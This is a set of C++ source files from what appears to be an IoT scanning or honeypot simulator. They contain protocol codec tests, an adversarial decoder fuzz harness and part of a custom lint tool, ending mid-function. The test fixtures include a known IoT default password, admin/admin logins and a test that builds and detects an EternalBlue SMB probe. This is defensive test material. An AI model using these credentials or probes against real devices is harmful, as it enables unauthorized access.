  EXPECT_EQ(decoded->pass, "xc3511");
  EXPECT_FALSE(ssh::decode_auth("GARBAGE line"));
}

// ------------------------------------------------------------------- http

TEST(HttpCodec, RequestRoundTrip) {
  http::Request request;
  request.method = "POST";
  request.path = "/login";
  request.headers["host"] = "device";
  request.body = "user=admin&pass=admin";
  const auto decoded =
      http::decode_request(util::to_string(http::encode_request(request)));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->method, "POST");
  EXPECT_EQ(decoded->path, "/login");
  EXPECT_EQ(decoded->headers.at("host"), "device");
  EXPECT_EQ(decoded->body, "user=admin&pass=admin");
}

TEST(HttpCodec, ResponseRoundTrip) {
  http::Response response;
  response.status = 401;
  response.reason = "Unauthorized";
  response.server = "lighttpd/1.4.54";
  response.body = "denied";
  const auto decoded =
      http::decode_response(util::to_string(http::encode_response(response)));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->status, 401);
  EXPECT_EQ(decoded->server, "lighttpd/1.4.54");
  EXPECT_EQ(decoded->body, "denied");
}

TEST(HttpCodec, RejectsNonHttp) {
  EXPECT_FALSE(http::decode_request("SSH-2.0-OpenSSH\r\n"));
  EXPECT_FALSE(http::decode_response("M-SEARCH * HTTP/1.1\r\n"));
}

// -------------------------------------------------------------------- smb

TEST(SmbCodec, FrameRoundTrip) {
  smb::SmbFrame frame;
  frame.command = smb::Command::kNegotiate;
  frame.payload = util::to_bytes("NT LM 0.12");
  std::size_t consumed = 0;
  const auto decoded = smb::decode_frame(smb::encode_frame(frame), &consumed);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->command, smb::Command::kNegotiate);
  EXPECT_EQ(util::to_string(decoded->payload), "NT LM 0.12");
}

TEST(SmbCodec, RejectsBadMagic) {
  auto encoded = smb::encode_frame(smb::SmbFrame{});
  encoded[4] = 0x00;  // clobber 0xFF S M B
  EXPECT_FALSE(smb::decode_frame(encoded, nullptr));
}

TEST(SmbCodec, EternalBlueProbeDetected) {
  std::size_t consumed = 0;
  const auto probe = smb::decode_frame(smb::eternalblue_probe(), &consumed);
  ASSERT_TRUE(probe);
  EXPECT_TRUE(smb::is_eternalblue_probe(*probe));
  smb::SmbFrame benign;
  benign.command = smb::Command::kEcho;
  EXPECT_FALSE(smb::is_eternalblue_probe(benign));
}

// ----------------------------------------------------------------- modbus

TEST(ModbusCodec, RequestRoundTrip) {
  modbus::Request request;
  request.transaction_id = 99;
  request.unit_id = 2;
  request.function = 0x03;
  request.data = {0x00, 0x01, 0x00, 0x02};
  std::size_t consumed = 0;
  const auto decoded =
      modbus::decode_request(modbus::encode_request(request), &consumed);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->transaction_id, 99);
  EXPECT_EQ(decoded->unit_id, 2);
  EXPECT_EQ(decoded->function, 0x03);
  EXPECT_EQ(decoded->data.size(), 4u);
}

TEST(ModbusCodec, ValidFunctionTable) {
  EXPECT_TRUE(modbus::is_valid_function(0x03));
  EXPECT_TRUE(modbus::is_valid_function(0x2b));
  EXPECT_FALSE(modbus::is_valid_function(0x00));
  EXPECT_FALSE(modbus::is_valid_function(0x63));
  int valid = 0;
  for (int code = 0; code < 256; ++code) {
    if (modbus::is_valid_function(static_cast<std::uint8_t>(code))) ++valid;
  }
  EXPECT_EQ(valid, 19);  // the nineteen public function codes (paper §5.1.4)
}

TEST(ModbusCodec, RejectsTruncated) {
  modbus::Request request;
  request.data = {1, 2, 3, 4};
  auto encoded = modbus::encode_request(request);
  encoded.resize(encoded.size() - 2);
  EXPECT_FALSE(modbus::decode_request(encoded, nullptr));
}

// --------------------------------------------------------------------- s7

TEST(S7Codec, CotpConnectRoundTrip) {
  std::size_t consumed = 0;
  const auto decoded = s7::decode(s7::encode_cotp_connect(), &consumed);
  ASSERT_TRUE(decoded);
  EXPECT_TRUE(decoded->is_cotp_connect);
}

TEST(S7Codec, PduRoundTrip) {
  const auto encoded =
      s7::encode_pdu(s7::PduType::kJob, 42, util::to_bytes("read"));
  std::size_t consumed = 0;
  const auto decoded = s7::decode(encoded, &consumed);
  ASSERT_TRUE(decoded);
  EXPECT_FALSE(decoded->is_cotp_connect);
  EXPECT_EQ(decoded->pdu_type, s7::PduType::kJob);
  EXPECT_EQ(decoded->pdu_ref, 42);
  EXPECT_EQ(util::to_string(decoded->payload), "read");
  EXPECT_EQ(consumed, encoded.size());
}

TEST(S7Codec, RejectsWrongTpktVersion) {
  auto encoded = s7::encode_pdu(s7::PduType::kJob, 1, {});
  encoded[0] = 2;
  EXPECT_FALSE(s7::decode(encoded, nullptr));
}

// ---------------------------------------------------------------- service

TEST(Service, ProtocolPorts) {
  EXPECT_EQ(protocol_ports(Protocol::kTelnet),
            (std::vector<std::uint16_t>{23, 2323}));
  EXPECT_EQ(protocol_ports(Protocol::kXmpp),
            (std::vector<std::uint16_t>{5222, 5269}));
  EXPECT_EQ(default_port(Protocol::kMqtt), 1883);
  EXPECT_TRUE(is_udp(Protocol::kCoap));
  EXPECT_TRUE(is_udp(Protocol::kUpnp));
  EXPECT_FALSE(is_udp(Protocol::kTelnet));
  EXPECT_EQ(scanned_protocols().size(), 6u);
}

TEST(Service, AuthConfigCheck) {
  const auto open = AuthConfig::open();
  EXPECT_TRUE(open.check("anything", "goes"));
  auto strict = AuthConfig::with("admin", "secret");
  EXPECT_TRUE(strict.check("admin", "secret"));
  EXPECT_FALSE(strict.check("admin", "wrong"));
  EXPECT_FALSE(strict.check("root", "secret"));
}

}  // namespace
}  // namespace ofh::proto
