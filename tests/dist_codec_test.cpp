// Adversarial decode harness for the distributed worker protocol
// (dist/protocol.h): every frame type round-trips exactly, and every
// defect class — truncation at each byte boundary, trailing bytes, flipped
// tags, lying length/count prefixes, random corruption — yields
// std::nullopt from the matching decoder without crashing or over-reading.
// scripts/ci.sh runs this suite under ASan+UBSan (label `codec`), which is
// where an out-of-bounds read or UB in a decode path actually fails.
#include <gtest/gtest.h>

#include <cstdint>
#include <optional>
#include <random>
#include <span>
#include <string>
#include <vector>

#include "dist/protocol.h"
#include "net/faults.h"
#include "net/wire.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "util/bytes.h"

namespace ofh {
namespace {

using dist::MsgTag;

// ------------------------------------------------------------- fixtures

dist::HelloFrame sample_hello() {
  dist::HelloFrame frame;
  frame.version = dist::kDistProtocolVersion;
  frame.pid = 4242;
  frame.name = "ext-worker-7";
  return frame;
}

dist::JobFrame sample_job() {
  dist::JobFrame frame;
  frame.epoch = 3;
  frame.job.index = 5;
  frame.job.protocol = proto::Protocol::kTelnet;
  frame.job.sweep_seed = 0x1234'5678'9abc'def0ull;
  frame.job.start = sim::days(2);
  frame.job.sweep_total = 1'000'000;
  frame.seed = 42;
  frame.population_scale = 1.0 / 16'384;
  frame.scan_batch = 4'096;
  frame.scan_attempts = 2;
  frame.fault_schedule.uniform_loss = 0.01;
  frame.fault_schedule.duplicate_rate = 0.002;
  frame.fault_schedule.reorder_rate = 0.003;
  frame.fault_schedule.reorder_delay = 17;
  frame.fault_schedule.burst.enabled = true;
  frame.fault_schedule.burst.p_enter = 0.05;
  frame.fault_schedule.burst.p_exit = 0.5;
  frame.fault_schedule.burst.loss_good = 0.0;
  frame.fault_schedule.burst.loss_bad = 0.6;
  frame.fault_schedule.burst.slot = 1'000;
  net::FaultWindow flap;
  flap.kind = net::FaultKind::kLinkFlap;
  flap.start = sim::hours(1);
  flap.end = sim::hours(2);
  flap.scope = util::Cidr(util::Ipv4Addr(0x0a000000), 8);
  frame.fault_schedule.windows.push_back(flap);
  net::FaultWindow partition;
  partition.kind = net::FaultKind::kPartition;
  partition.start = sim::hours(3);
  partition.end = sim::hours(4);
  partition.scope = util::Cidr(util::Ipv4Addr(0xc0a80000), 16);
  partition.peer = util::Cidr(util::Ipv4Addr(0x0a010000), 16);
  partition.magnitude = 25;
  frame.fault_schedule.windows.push_back(partition);
  frame.packet_ring_capacity = 1 << 16;
  frame.session_ring_capacity = 1 << 14;
  return frame;
}

dist::ProgressFrame sample_progress() {
  dist::ProgressFrame frame;
  frame.job_index = 2;
  frame.epoch = 4;
  frame.resolved = 8'192;
  frame.sim_time = sim::hours(30);
  return frame;
}

dist::ResultFrame sample_result() {
  dist::ResultFrame frame;
  frame.job_index = 1;
  frame.epoch = 2;
  frame.shard.probes = 900;
  frame.shard.responsive = 500;
  frame.shard.refused = 100;
  frame.shard.unresolved = 300;
  frame.shard.retries = 40;
  frame.shard.events = 12'345;
  frame.shard.finished = sim::hours(31);
  scanner::ScanRecord with_banner;
  with_banner.host = util::Ipv4Addr(0x0a000001);
  with_banner.port = 23;
  with_banner.protocol = proto::Protocol::kTelnet;
  with_banner.when = 1'000;
  with_banner.banner = "login: ";
  frame.shard.records.push_back(with_banner);
  scanner::ScanRecord bare;
  bare.host = util::Ipv4Addr(0x0a000002);
  bare.port = 1'883;
  bare.protocol = proto::Protocol::kMqtt;
  bare.when = 2'000;
  frame.shard.records.push_back(bare);
  frame.trace_recorded = 10;
  frame.trace_dropped = 3;
  obs::TraceEvent event;
  event.time = 1'000;
  event.trace_id = 77;
  event.seq = 1;
  event.src = 0x0a000001;
  event.dst = 0x0a000002;
  event.port = 23;
  event.shard = 2;  // job_index + 1
  event.type = obs::TraceEventType::kProbe;
  event.a = 1;
  event.b = 0;
  frame.trace_events.push_back(event);
  event.seq = 2;
  frame.trace_events.push_back(event);
  obs::MetricRow counter;
  counter.name = "scan.probes";
  counter.kind = obs::Kind::kCounter;
  counter.domain = obs::Domain::kSim;
  counter.value = 900;
  frame.metrics.push_back(counter);
  obs::MetricRow histogram;
  histogram.name = "scan.rtt";
  histogram.kind = obs::Kind::kHistogram;
  histogram.domain = obs::Domain::kSim;
  histogram.count = 5;
  histogram.sum = 70;
  histogram.buckets[3] = 2;
  histogram.buckets[64] = 3;
  frame.metrics.push_back(histogram);
  return frame;
}

// ----------------------------------------------------------- round-trips

TEST(DistCodec, HelloRoundTrips) {
  const dist::HelloFrame frame = sample_hello();
  const auto decoded = dist::decode_hello(dist::encode_hello(frame));
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(decoded->version, frame.version);
  EXPECT_EQ(decoded->pid, frame.pid);
  EXPECT_EQ(decoded->name, frame.name);
}

TEST(DistCodec, JobRoundTripsIncludingFaultSchedule) {
  const dist::JobFrame frame = sample_job();
  const auto decoded = dist::decode_job(dist::encode_job(frame));
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(decoded->epoch, frame.epoch);
  EXPECT_EQ(decoded->job.index, frame.job.index);
  EXPECT_EQ(decoded->job.protocol, frame.job.protocol);
  EXPECT_EQ(decoded->job.sweep_seed, frame.job.sweep_seed);
  EXPECT_EQ(decoded->job.start, frame.job.start);
  EXPECT_EQ(decoded->job.sweep_total, frame.job.sweep_total);
  EXPECT_EQ(decoded->seed, frame.seed);
  // Doubles travel as bit patterns, so equality here is exact, not
  // approximate — the premise of the byte-identical remote execution.
  EXPECT_EQ(decoded->population_scale, frame.population_scale);
  EXPECT_EQ(decoded->scan_batch, frame.scan_batch);
  EXPECT_EQ(decoded->scan_attempts, frame.scan_attempts);
  const net::FaultSchedule& schedule = decoded->fault_schedule;
  EXPECT_EQ(schedule.uniform_loss, frame.fault_schedule.uniform_loss);
  EXPECT_EQ(schedule.duplicate_rate, frame.fault_schedule.duplicate_rate);
  EXPECT_EQ(schedule.reorder_rate, frame.fault_schedule.reorder_rate);
  EXPECT_EQ(schedule.reorder_delay, frame.fault_schedule.reorder_delay);
  EXPECT_EQ(schedule.burst.enabled, frame.fault_schedule.burst.enabled);
  EXPECT_EQ(schedule.burst.p_enter, frame.fault_schedule.burst.p_enter);
  EXPECT_EQ(schedule.burst.slot, frame.fault_schedule.burst.slot);
  ASSERT_EQ(schedule.windows.size(), frame.fault_schedule.windows.size());
  for (std::size_t i = 0; i < schedule.windows.size(); ++i) {
    const net::FaultWindow& got = schedule.windows[i];
    const net::FaultWindow& want = frame.fault_schedule.windows[i];
    EXPECT_EQ(got.kind, want.kind) << i;
    EXPECT_EQ(got.start, want.start) << i;
    EXPECT_EQ(got.end, want.end) << i;
    EXPECT_EQ(got.scope.base().value(), want.scope.base().value()) << i;
    EXPECT_EQ(got.scope.prefix_len(), want.scope.prefix_len()) << i;
    EXPECT_EQ(got.peer.base().value(), want.peer.base().value()) << i;
    EXPECT_EQ(got.magnitude, want.magnitude) << i;
  }
  EXPECT_EQ(decoded->packet_ring_capacity, frame.packet_ring_capacity);
  EXPECT_EQ(decoded->session_ring_capacity, frame.session_ring_capacity);
}

TEST(DistCodec, ProgressAndHeartbeatRoundTripBehindDistinctTags) {
  const dist::ProgressFrame progress = sample_progress();
  const auto decoded = dist::decode_progress(dist::encode_progress(progress));
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(decoded->job_index, progress.job_index);
  EXPECT_EQ(decoded->epoch, progress.epoch);
  EXPECT_EQ(decoded->resolved, progress.resolved);
  EXPECT_EQ(decoded->sim_time, progress.sim_time);

  dist::HeartbeatFrame beat;
  beat.job_index = 6;
  beat.epoch = 1;
  beat.resolved = 512;
  beat.sim_time = 99;
  const auto beat_decoded = dist::decode_heartbeat(dist::encode_heartbeat(beat));
  ASSERT_TRUE(beat_decoded.has_value());
  EXPECT_EQ(beat_decoded->job_index, beat.job_index);
  EXPECT_EQ(beat_decoded->resolved, beat.resolved);

  // Same body shape, different tag: the decoders must not accept each
  // other's frames, or a stray heartbeat could publish a progress stride.
  EXPECT_FALSE(dist::decode_progress(dist::encode_heartbeat(beat)).has_value());
  EXPECT_FALSE(
      dist::decode_heartbeat(dist::encode_progress(progress)).has_value());
}

TEST(DistCodec, ResultRoundTripsRecordsTraceAndMetrics) {
  const dist::ResultFrame frame = sample_result();
  const auto decoded = dist::decode_result(dist::encode_result(frame));
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(decoded->job_index, frame.job_index);
  EXPECT_EQ(decoded->epoch, frame.epoch);
  EXPECT_EQ(decoded->shard.probes, frame.shard.probes);
  EXPECT_EQ(decoded->shard.responsive, frame.shard.responsive);
  EXPECT_EQ(decoded->shard.refused, frame.shard.refused);
  EXPECT_EQ(decoded->shard.unresolved, frame.shard.unresolved);
  EXPECT_EQ(decoded->shard.retries, frame.shard.retries);
  EXPECT_EQ(decoded->shard.events, frame.shard.events);
  EXPECT_EQ(decoded->shard.finished, frame.shard.finished);
  ASSERT_EQ(decoded->shard.records.size(), frame.shard.records.size());
  for (std::size_t i = 0; i < frame.shard.records.size(); ++i) {
    EXPECT_EQ(decoded->shard.records[i].host.value(),
              frame.shard.records[i].host.value()) << i;
    EXPECT_EQ(decoded->shard.records[i].port, frame.shard.records[i].port) << i;
    EXPECT_EQ(decoded->shard.records[i].protocol,
              frame.shard.records[i].protocol) << i;
    EXPECT_EQ(decoded->shard.records[i].when, frame.shard.records[i].when) << i;
    EXPECT_EQ(decoded->shard.records[i].banner,
              frame.shard.records[i].banner) << i;
  }
  EXPECT_EQ(decoded->trace_recorded, frame.trace_recorded);
  EXPECT_EQ(decoded->trace_dropped, frame.trace_dropped);
  ASSERT_EQ(decoded->trace_events.size(), frame.trace_events.size());
  for (std::size_t i = 0; i < frame.trace_events.size(); ++i) {
    EXPECT_EQ(decoded->trace_events[i].time, frame.trace_events[i].time) << i;
    EXPECT_EQ(decoded->trace_events[i].seq, frame.trace_events[i].seq) << i;
    EXPECT_EQ(decoded->trace_events[i].shard, frame.trace_events[i].shard) << i;
    EXPECT_EQ(decoded->trace_events[i].type, frame.trace_events[i].type) << i;
  }
  ASSERT_EQ(decoded->metrics.size(), frame.metrics.size());
  EXPECT_EQ(decoded->metrics[0].name, "scan.probes");
  EXPECT_EQ(decoded->metrics[0].kind, obs::Kind::kCounter);
  EXPECT_EQ(decoded->metrics[0].value, 900);
  EXPECT_EQ(decoded->metrics[1].name, "scan.rtt");
  EXPECT_EQ(decoded->metrics[1].kind, obs::Kind::kHistogram);
  EXPECT_EQ(decoded->metrics[1].count, 5u);
  EXPECT_EQ(decoded->metrics[1].sum, 70u);
  EXPECT_EQ(decoded->metrics[1].buckets[3], 2u);
  EXPECT_EQ(decoded->metrics[1].buckets[64], 3u);
  EXPECT_EQ(decoded->metrics[1].buckets[0], 0u);
}

TEST(DistCodec, ShutdownAndAckAreTagOnlyBodies) {
  const util::Bytes shutdown = dist::encode_shutdown();
  ASSERT_EQ(shutdown.size(), 1u);
  EXPECT_EQ(shutdown[0], static_cast<std::uint8_t>(MsgTag::kShutdown));
  const util::Bytes ack = dist::encode_shutdown_ack();
  ASSERT_EQ(ack.size(), 1u);
  EXPECT_EQ(ack[0], static_cast<std::uint8_t>(MsgTag::kShutdown) |
                        net::kWireResponseBit);
}

// -------------------------------------------------- adversarial harness

// Runs every dist decoder over a candidate body. None may crash; the
// caller decides whether any particular decoder must also reject.
void decode_all(std::span<const std::uint8_t> body) {
  (void)dist::decode_hello(body);
  (void)dist::decode_job(body);
  (void)dist::decode_progress(body);
  (void)dist::decode_heartbeat(body);
  (void)dist::decode_result(body);
  (void)net::parse_wire_error(body);
}

struct NamedFrame {
  const char* name;
  util::Bytes bytes;
};

std::vector<NamedFrame> all_sample_frames() {
  dist::HeartbeatFrame beat;
  beat.job_index = 1;
  beat.epoch = 2;
  beat.resolved = 3;
  beat.sim_time = 4;
  return {
      {"hello", dist::encode_hello(sample_hello())},
      {"job", dist::encode_job(sample_job())},
      {"progress", dist::encode_progress(sample_progress())},
      {"heartbeat", dist::encode_heartbeat(beat)},
      {"result", dist::encode_result(sample_result())},
      {"error", net::wire_error_body(net::WireError::kMalformed, "nope")},
  };
}

bool decodes_as_own_type(const NamedFrame& frame,
                         std::span<const std::uint8_t> body) {
  const std::string name = frame.name;
  if (name == "hello") return dist::decode_hello(body).has_value();
  if (name == "job") return dist::decode_job(body).has_value();
  if (name == "progress") return dist::decode_progress(body).has_value();
  if (name == "heartbeat") return dist::decode_heartbeat(body).has_value();
  if (name == "result") return dist::decode_result(body).has_value();
  return net::parse_wire_error(body).has_value();
}

TEST(DistAdversarial, EveryTruncationPrefixIsRejected) {
  for (const NamedFrame& frame : all_sample_frames()) {
    for (std::size_t len = 0; len < frame.bytes.size(); ++len) {
      const std::span<const std::uint8_t> prefix(frame.bytes.data(), len);
      EXPECT_FALSE(decodes_as_own_type(frame, prefix))
          << frame.name << " accepted a " << len << "-byte truncation";
      decode_all(prefix);  // and nothing else may crash on it either
    }
  }
}

TEST(DistAdversarial, TrailingBytesAreRejected) {
  for (const NamedFrame& frame : all_sample_frames()) {
    util::Bytes padded = frame.bytes;
    padded.push_back(0x00);
    EXPECT_FALSE(decodes_as_own_type(frame, padded))
        << frame.name << " accepted a trailing byte";
    padded.back() = 0xff;
    EXPECT_FALSE(decodes_as_own_type(frame, padded))
        << frame.name << " accepted a trailing 0xff";
  }
}

TEST(DistAdversarial, FlippedTagsAreRejectedByEveryOtherDecoder) {
  for (const NamedFrame& frame : all_sample_frames()) {
    for (unsigned tag = 0; tag <= 0xff; ++tag) {
      util::Bytes flipped = frame.bytes;
      if (flipped[0] == tag) continue;
      flipped[0] = static_cast<std::uint8_t>(tag);
      // A body whose payload was encoded for one tag must never decode
      // under another: all five decoders check the tag AND full
      // consumption, and the bodies differ in length.
      EXPECT_FALSE(decodes_as_own_type(frame, flipped))
          << frame.name << " accepted tag " << tag;
      decode_all(flipped);
    }
  }
}

TEST(DistAdversarial, LyingCountPrefixesCannotBalloonAllocation) {
  // A result frame whose record count promises 16M entries but carries
  // none: the decoder bounds reserve() by the bytes actually remaining,
  // so this must reject quickly instead of allocating gigabytes.
  util::ByteWriter writer;
  writer.u8(static_cast<std::uint8_t>(MsgTag::kResult));
  writer.u32(0);  // job_index
  writer.u32(1);  // epoch
  for (int i = 0; i < 7; ++i) writer.u64(0);
  writer.u32(0x00ff'ffff);  // record count lie
  EXPECT_FALSE(dist::decode_result(writer.take()).has_value());

  util::ByteWriter trace_lie;
  trace_lie.u8(static_cast<std::uint8_t>(MsgTag::kResult));
  trace_lie.u32(0);
  trace_lie.u32(1);
  for (int i = 0; i < 7; ++i) trace_lie.u64(0);
  trace_lie.u32(0);           // no records
  trace_lie.u64(0);           // trace_recorded
  trace_lie.u64(0);           // trace_dropped
  trace_lie.u32(0xffff'ffff);  // trace count lie
  EXPECT_FALSE(dist::decode_result(trace_lie.take()).has_value());

  // A hello whose str8 length prefix promises more name than the body
  // holds latches the reader's underflow error.
  util::ByteWriter hello_lie;
  hello_lie.u8(static_cast<std::uint8_t>(MsgTag::kHello));
  hello_lie.u32(dist::kDistProtocolVersion);
  hello_lie.u64(1);
  hello_lie.u8(200);  // name length lie; only 2 bytes follow
  hello_lie.u8('h');
  hello_lie.u8('i');
  EXPECT_FALSE(dist::decode_hello(hello_lie.take()).has_value());

  // A job whose fault-window count promises more windows than fit.
  const util::Bytes job = dist::encode_job(sample_job());
  // The window count is a u16 at a fixed offset: tag(1) epoch(4) index(4)
  // protocol(1) sweep_seed(8) start(8) total(8) seed(8) scale(8) batch(4)
  // attempts(4) rates(24) delay(8) burst(1+32+8) = offset 131.
  constexpr std::size_t kWindowCountOffset = 131;
  ASSERT_TRUE(dist::decode_job(job).has_value());
  util::Bytes window_lie = job;
  window_lie[kWindowCountOffset] = 0xff;
  window_lie[kWindowCountOffset + 1] = 0xff;
  EXPECT_FALSE(dist::decode_job(window_lie).has_value());
}

TEST(DistAdversarial, OutOfRangeEnumsAreRejected) {
  // Scan record protocol byte past kS7.
  dist::ResultFrame result = sample_result();
  util::Bytes bytes = dist::encode_result(result);
  // Find the first record's protocol byte: tag(1) index(4) epoch(4)
  // counters(56) record_count(4) host(4) port(2) = offset 75.
  constexpr std::size_t kProtocolOffset = 75;
  bytes[kProtocolOffset] = 0xee;
  EXPECT_FALSE(dist::decode_result(bytes).has_value());

  // Hostile fault-window kind in a job.
  dist::JobFrame job = sample_job();
  const util::Bytes good = dist::encode_job(job);
  util::Bytes bad_kind = good;
  bad_kind[131 + 2] = 0xee;  // first window's kind byte
  EXPECT_FALSE(dist::decode_job(bad_kind).has_value());

  // Burst-enabled byte must be exactly 0 or 1 (a canonical-encoding
  // check: two encodings of "enabled" would break byte-identity).
  util::Bytes bad_burst = good;
  // tag(1) epoch(4) index(4) protocol(1) five u64/f64 fields(40) batch(4)
  // attempts(4) three rate f64s(24) reorder_delay(8) = 90.
  constexpr std::size_t kBurstEnabledOffset = 90;
  ASSERT_EQ(good[kBurstEnabledOffset], 1u);
  bad_burst[kBurstEnabledOffset] = 2;
  EXPECT_FALSE(dist::decode_job(bad_burst).has_value());
}

TEST(DistAdversarial, RandomCorruptionNeverCrashesADecoder) {
  // Deterministic fuzz sweep: corrupt 1-8 bytes of each sample frame and
  // run every decoder. Decoders may accept mutations that only change
  // values (a different counter is still well-formed); they must never
  // crash, over-read, or balloon allocation — ASan/UBSan enforce that
  // when scripts/ci.sh runs this binary.
  std::mt19937 rng(0xdf57c0de);
  const std::vector<NamedFrame> frames = all_sample_frames();
  for (int iteration = 0; iteration < 20'000; ++iteration) {
    const NamedFrame& frame = frames[rng() % frames.size()];
    util::Bytes mutated = frame.bytes;
    const unsigned edits = 1 + rng() % 8;
    for (unsigned e = 0; e < edits; ++e) {
      mutated[rng() % mutated.size()] = static_cast<std::uint8_t>(rng());
    }
    decode_all(mutated);
  }
}

TEST(DistAdversarial, RandomGarbageNeverDecodes) {
  // Pure noise should essentially never parse: a random first byte only
  // matches a given tag 1/256 of the time, and the body must then satisfy
  // every length and range check. Verify crash-freedom and, for bodies
  // that don't start with a valid tag, rejection.
  std::mt19937 rng(0x0f42c0de);
  for (int iteration = 0; iteration < 5'000; ++iteration) {
    util::Bytes noise(1 + rng() % 512);
    for (std::uint8_t& byte : noise) byte = static_cast<std::uint8_t>(rng());
    decode_all(noise);
    if (noise[0] == 0 || noise[0] > 6) {
      EXPECT_FALSE(dist::decode_hello(noise).has_value());
      EXPECT_FALSE(dist::decode_job(noise).has_value());
      EXPECT_FALSE(dist::decode_progress(noise).has_value());
      EXPECT_FALSE(dist::decode_heartbeat(noise).has_value());
      EXPECT_FALSE(dist::decode_result(noise).has_value());
    }
  }
}

// ------------------------------------------------------- framing limits

TEST(DistFraming, OversizedDeclaredLengthIsReportedWithoutAllocating) {
  util::ByteWriter writer;
  writer.u32(static_cast<std::uint32_t>(dist::kMaxControlBody + 1));
  const util::Bytes header = writer.take();
  const net::FrameView view = net::peek_frame(header, dist::kMaxControlBody);
  EXPECT_EQ(view.status, net::FrameStatus::kOversized);
  EXPECT_EQ(view.declared, dist::kMaxControlBody + 1);
}

TEST(DistFraming, JobCapAdmitsWorstCaseJobFrame) {
  // A job frame with the maximum window count the encoder will emit must
  // still fit under kMaxJobBody, or the coordinator could build a frame
  // its own worker rejects.
  dist::JobFrame frame = sample_job();
  frame.fault_schedule.windows.resize(0xffff);
  const util::Bytes bytes = dist::encode_job(frame);
  EXPECT_LE(bytes.size(), dist::kMaxJobBody);
  const util::Bytes framed = net::wire_frame(bytes);
  const net::FrameView view = net::peek_frame(framed, dist::kMaxJobBody);
  EXPECT_EQ(view.status, net::FrameStatus::kFrame);
  const auto decoded = dist::decode_job(view.body);
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(decoded->fault_schedule.windows.size(), 0xffffu);
}

TEST(DistFraming, TypedErrorEnvelopeRoundTripsThroughSharedWireCodec) {
  const util::Bytes body =
      net::wire_error_body(net::WireError::kUnknownTag, "tag 9");
  const auto parsed = net::parse_wire_error(body);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->code, net::WireError::kUnknownTag);
  EXPECT_EQ(parsed->message, "tag 9");
  // No dist decoder may mistake the error envelope for a frame.
  EXPECT_FALSE(dist::decode_hello(body).has_value());
  EXPECT_FALSE(dist::decode_result(body).has_value());
}

}  // namespace
}  // namespace ofh
