// Deterministic single-pass C++ lexer for ofh-lint. Produces a flat token
// stream (comments split out, with own-line tracking for suppression
// pragmas) with line numbers. This is intentionally not a parser: the rule
// engine (rules.cpp) pattern-matches over tokens, which keeps the tool
// dependency-free (no libclang) and fast enough for the CI fast path.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace ofh::lint {

enum class TokKind : std::uint8_t {
  kIdent,   // identifiers and keywords ("static", "unordered_map", ...)
  kNumber,  // numeric literals, including separators and suffixes
  kString,  // string literals (plain, raw, prefixed); text excludes quotes
  kChar,    // character literals
  kPunct,   // operators/punctuation; "::" and "->" are single tokens
};

struct Token {
  TokKind kind;
  std::uint32_t line;
  std::string text;
};

struct Comment {
  std::uint32_t line;  // line the comment starts on
  bool own_line;       // true when no code token precedes it on its line
  std::string text;    // body without the // or /* */ markers
};

struct LexResult {
  std::vector<Token> tokens;
  std::vector<Comment> comments;
  std::uint32_t line_count = 0;
};

// Lexes a whole translation unit. Never fails: unterminated constructs are
// consumed to end-of-input so a half-edited file still lints.
LexResult lex(std::string_view source);

}  // namespace ofh::lint
