#include "rules.h"

#include <algorithm>
#include <map>
#include <set>

#include "lexer.h"

namespace ofh::lint {

namespace {

const std::set<std::string>& unordered_types() {
  static const std::set<std::string> kTypes = {
      "unordered_map", "unordered_set", "unordered_multimap",
      "unordered_multiset"};
  return kTypes;
}

bool is_punct(const Token& tok, const char* text) {
  return tok.kind == TokKind::kPunct && tok.text == text;
}

bool is_ident(const Token& tok, const char* text) {
  return tok.kind == TokKind::kIdent && tok.text == text;
}

// Skips a balanced <...> starting at tokens[i] == "<". Returns the index
// one past the closing ">", or `end` when unbalanced. Fills `saw` with the
// idents/punct seen inside when non-null.
std::size_t skip_angles(const std::vector<Token>& toks, std::size_t i,
                        std::vector<const Token*>* saw = nullptr) {
  int depth = 0;
  for (; i < toks.size(); ++i) {
    if (is_punct(toks[i], "<")) {
      ++depth;
    } else if (is_punct(toks[i], ">")) {
      if (--depth == 0) return i + 1;
    } else if (depth > 0 && saw != nullptr) {
      saw->push_back(&toks[i]);
    }
    // Angle brackets in type context never nest across these.
    if (is_punct(toks[i], ";") || is_punct(toks[i], "{")) break;
  }
  return toks.size();
}

// Skips a balanced (...) starting at tokens[i] == "(". Returns the index of
// the matching ")" or toks.size().
std::size_t match_paren(const std::vector<Token>& toks, std::size_t i) {
  int depth = 0;
  for (; i < toks.size(); ++i) {
    if (is_punct(toks[i], "(")) ++depth;
    if (is_punct(toks[i], ")") && --depth == 0) return i;
  }
  return toks.size();
}

// The identifier before a "::" qualifier, or empty when unqualified.
std::string qualifier(const std::vector<Token>& toks, std::size_t i) {
  if (i >= 2 && is_punct(toks[i - 1], "::") &&
      toks[i - 2].kind == TokKind::kIdent) {
    return toks[i - 2].text;
  }
  return "";
}

bool member_access(const std::vector<Token>& toks, std::size_t i) {
  return i >= 1 && (is_punct(toks[i - 1], ".") || is_punct(toks[i - 1], "->"));
}

bool followed_by_call(const std::vector<Token>& toks, std::size_t i) {
  return i + 1 < toks.size() && is_punct(toks[i + 1], "(");
}

// --------------------------------------------------------------- pragmas

struct Suppression {
  bool used = false;
};

struct PragmaState {
  // (line, rule) -> suppression
  std::map<std::pair<std::uint32_t, std::string>, Suppression> allows;
  std::vector<Finding> problems;  // bad-pragma findings
};

std::string trimmed(std::string s) {
  const auto is_space = [](char c) {
    return c == ' ' || c == '\t' || c == '\r';
  };
  while (!s.empty() && is_space(s.front())) s.erase(s.begin());
  while (!s.empty() && is_space(s.back())) s.pop_back();
  return s;
}

// Parses "ofh-lint: allow(rule[,rule]) — justification" out of a comment.
// The justification separator may be an em dash, "--", or ":"; what follows
// must be substantial (>= 10 characters) so "fixme" can't stand in for a
// reason. A malformed pragma is a bad-pragma finding, never silently inert.
void parse_pragma(const Config& config, const std::string& relpath,
